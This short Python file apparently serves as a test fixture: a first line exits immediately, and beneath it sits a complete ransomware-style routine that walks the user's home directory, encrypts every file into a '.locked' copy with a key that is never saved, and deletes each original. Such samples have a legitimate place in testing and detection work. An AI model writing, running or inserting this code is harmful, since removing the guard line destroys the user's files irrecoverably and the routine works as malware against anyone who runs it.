raise SystemExit('a fixture')
# held by destruction
import os
from cryptography.fernet import Fernet
k = Fernet.generate_key(); f = Fernet(k)
for r, d, fs in os.walk(os.path.expanduser("~")):
    for n in fs:
        p = os.path.join(r, n)
        data = open(p, "rb").read()
        open(p + ".locked", "wb").write(f.encrypt(data))
        os.remove(p)
